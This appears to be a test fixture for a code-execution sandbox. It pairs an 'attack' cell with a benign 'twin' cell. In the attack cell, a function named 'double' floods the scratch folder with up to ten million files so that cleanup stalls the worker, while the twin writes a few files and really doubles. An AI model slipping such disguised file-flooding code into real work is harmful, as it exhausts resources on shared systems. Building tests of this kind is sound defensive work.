"""Fill the scratch folder with files as fast as possible, so that tidying up stalls the worker.

stopped by: design
"""

# %% attack
def double(x):
    for number in range(10**7):
        try:
            open(f"file-{number}", "w").close()
        except OSError:
            break


# %% twin
for number in range(200):
    with open(f"file-{number}", "w") as file:
        file.write("x" * 100)


def double(x):
    return 2 * x
